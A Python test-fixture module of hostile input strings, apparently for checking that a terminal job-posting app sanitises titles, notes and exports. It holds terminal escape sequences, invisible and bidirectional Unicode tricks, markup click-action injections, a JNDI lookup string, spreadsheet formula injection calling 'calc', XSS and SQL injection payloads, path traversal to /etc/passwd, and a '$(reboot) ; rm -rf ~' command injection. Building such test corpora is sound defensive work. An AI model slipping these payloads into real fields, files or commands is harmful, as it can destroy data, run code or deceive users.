"""Texts that try to act on a terminal, on the screens or on what reads an export, each with a mark in it.

They are written as postings are: any of them may stand in a title, a company, a note or the name of a file.
"""

MARK = "zQ7x"
"""Stands in every text, so that it can be found on a screen and must never be found within a sequence."""

_ESC, _BEL, _ST = "\x1b", "\x07", "\x1b\\"

# What terminals are told by

_STRINGS_TO_A_TERMINAL = tuple(
    f"{MARK} {_ESC}]{body}{end}tail"
    for end in (_BEL, _ST)
    for body in (
        "0;title",
        "2;title",
        "4;1;rgb:ff/00/00",
        "7;file:///etc/passwd",
        "8;;http://evil.example/",
        "9;a notice",
        "10;?",
        "52;c;cm0gLXJmIH4K",
        "133;C",
        "777;notify;a;b",
        "1337;File=inline=1:AAAA",
    )
)
_OTHER_STRINGS = tuple(
    f"{MARK} {start}{body}{end}tail"
    for start, body, end in (
        (f"{_ESC}P", "q#0;2;0;0;0#0~~-", _ST),
        (f"{_ESC}P", "+q544e", _ST),
        (f"{_ESC}P", "$qm", _ST),
        (f"{_ESC}Ptmux;{_ESC}", f"{_ESC}]0;through{_BEL}", _ST),
        (f"{_ESC}_", "Ga=T,f=24,s=1,v=1;AAAA", _ST),
        (f"{_ESC}^", "private", _ST),
        (f"{_ESC}X", "start of string", _ST),
        (f"{_ESC}k", "screen title", _ST),
        ("\x9d", "0;eight bit", "\x9c"),
        ("\x90", "q~", "\x9c"),
        ("\x9f", "Ga=d", "\x9c"),
        ("\x9e", "private", "\x9c"),
        ("\x98", "string", "\x9c"),
        (f"{_ESC}]0;", "never ended", ""),
        (f"{_ESC}P", "never ended", ""),
        ("\x9d0;", "never ended", ""),
    )
)
_CONTROLS = tuple(
    f"{MARK} {_ESC}[{body} tail"
    for body in (
        *("2J", "3J", "H", "1;1H", "10A", "99C", "K", "1M", "5L", "9999b", "!p", "r", "1;2r", "4h", "20h"),
        *("?1049l", "?1049h", "?1000h", "?1003h", "?2004l", "?25l", "?7l", "?5h", "?2026h", "?69h", ">4;2m"),
        *(
            "6n",
            "5n",
            "c",
            ">c",
            "=c",
            "x",
            "?2026$p",
            "21t",
            "14t",
            "22;0t",
            "8;1;1t",
            "3;0;0t",
            "?u",
            ">1u",
        ),
        *(
            "31;41m",
            "8m",
            "5m",
            "38;2;0;0;0;48;2;0;0;0m",
            "58:2::1:2:3m",
            "201~",
            "200~",
            '0"q',
            "4 q",
            "0'{",
        ),
    )
)
_EIGHT_BIT = (f"{MARK} \x9b31m red", f"{MARK} \x9b2J", f"{MARK} \x9b6n", f"{MARK} \x84\x85\x8d\x8e\x8f\x9a")
_ESCAPES = tuple(
    f"{MARK} {_ESC}{body} tail" for body in ("c", "7", "8", "#8", "(0", ")B", "=", ">", "M", "Z", "n")
)
_HALF = (
    f"{MARK} ends in an escape {_ESC}",
    f"{MARK} ends in {_ESC}[",
    f"{MARK} ends in {_ESC}[38;2;1",
    f"{MARK} {_ESC}[ {_ESC}[\x18\x1a31m",
    f"{MARK} {_ESC}{_ESC}{_ESC}[31m",
)
_CHARACTERS = (
    f"{MARK} bell {_BEL} and null \x00 and delete \x7f",
    f"{MARK} back\b\b\b\bspace",
    f"{MARK} over\rwritten",
    f"{MARK} shift \x0eout\x0f in",
    f"{MARK} \x0b\x0c tabs \t\t feeds",
    f"{MARK} \x05\x11\x13\x15\x17 answers and flow",
    f"{MARK} one\ntwo\r\nthree\x85four\u2028five\u2029six",
    f"{MARK} \x1c\x1d\x1e\x1f separators",
)

# What readers are fooled by

_HIDDEN = (
    f"{MARK} \u202etxt.exe\u202c",
    f"{MARK} \u2066isolated\u2069 \u2067right\u2069",
    f"{MARK} \u200e\u200f\u061c marks",
    f"{MARK} \u202d\u202a\u202b embedded",
    f"{MARK} zero\u200bwidth\u2060joined\ufeff",
    f"{MARK} soft\u00adhy\u00adphens",
    f"{MARK} {''.join(chr(0xE0000 + ord(char)) for char in 'tagged words')}",
    f"{MARK} \ufff9base\ufffaruby\ufffb",
    f"{MARK} \u2061\u2062\u2063\u2064 operators",
    f"{MARK} \u206a\u206f old ones \u180e",
    f"{MARK} \U0001d173beam\U0001d17a \U0001bca0\U0001bca3 \U00013430",
    f"{MARK} \ud800 lone \udfff halves",
    f"{MARK} \uffff\ufdd0\U0001ffff no characters",
    f"{MARK} \ue000\uf8ff\U000f0000 private",
    f"{MARK} Z{chr(0x301) * 40}algo",
    f"{MARK} e{'́̂' * 30}{chr(0x20DD) * 20}",
    f"{MARK} x{''.join(chr(0xE0100 + n) for n in range(40))}",
    f"{MARK} x{chr(0xFE0F) * 40}",
    "👩\u200d" * 30 + MARK,
    f"{MARK} \u115f\u1160\u3164\uffa0\u2800 fillers",
    f"{MARK} ｆｕｌｌ　ｗｉｄｔｈ 漢字 ﷽ ꧅",
    f"{MARK} 🇩🇪🇫🇷 🏴\U000e0067\U000e0062\U000e007f 👍🏿",
    f"{MARK} می\u200cخواهم क्\u200dष",
)

# What programs obey

_MARKUP = (
    f"[@click=app.quit]{MARK}[/]",
    f"[@click=app.bell]{MARK}[/@click]",
    f"[@click='app.push_screen(\"help\")']{MARK}[/]",
    f"[@click=screen.dismiss]{MARK}[/]",
    f"[link=http://evil.example/]{MARK}[/link]",
    f"[link='file:///etc/passwd']{MARK}[/]",
    f"[/bold] {MARK} [/]",
    f"[bold red on blue {MARK}",
    f"{MARK} [Python, C++] [=] [a=b [",
    f"{MARK} \\[bold] \\\\[/bold] \\",
    f"[$error on $surface]{MARK}[/]",
    f"[reverse][blink]{MARK}[/blink]",
    f"{MARK} {'[' * 60}{']' * 60}",
    f"{MARK} :smile: :no_such: [not-a-style]",
    f"{MARK} $foreground $text-muted {{}} $var",
    f"{MARK} ${{jndi:ldap://evil.example/a}} %s%n%d {{0.__class__}}",
)
_OTHER_PROGRAMS = (
    f'=HYPERLINK("http://evil.example/{MARK}","pay")',
    f"+cmd|' /C calc'!A0 {MARK}",
    f"-2+3+{MARK}",
    f"@SUM(1+1)*{MARK}",
    f"\t={MARK}",
    f"＝1＋1 {MARK}",
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert(1)> {MARK} &lt;&#27;[31m",
    f"[{MARK}](javascript:alert(1)) ![{MARK}](file:///etc/passwd)",
    f"```\n# {MARK}\n```\n---\n| a | b |",
    f"`{MARK}` $(reboot) ; rm -rf ~ && %0a | cat",
    f"'; DROP TABLE posting; -- {MARK}",
    f'{MARK} NEAR(a b) "c * ^d AND OR NOT title:',
    f'{MARK} "quoted", \'twice\' ""',
    f"../../{MARK}/etc/passwd",
    f"--version {MARK}",
    f"-{MARK}",
    f"BEGIN:VEVENT\r\nSUMMARY:{MARK}\r\nEND:VCALENDAR",
    f"{MARK} 1e999 NaN -0 ٣ ²",
    f"{MARK}{' ' * 300}far out",
    f"{MARK} {'long ' * 400}",
    f"{MARK}{'W' * 2000}",
)

HOSTILE: tuple[str, ...] = (
    *_STRINGS_TO_A_TERMINAL,
    *_OTHER_STRINGS,
    *_CONTROLS,
    *_EIGHT_BIT,
    *_ESCAPES,
    *_HALF,
    *_CHARACTERS,
    *_HIDDEN,
    *_MARKUP,
    *_OTHER_PROGRAMS,
)
"""Every hostile text, each once."""
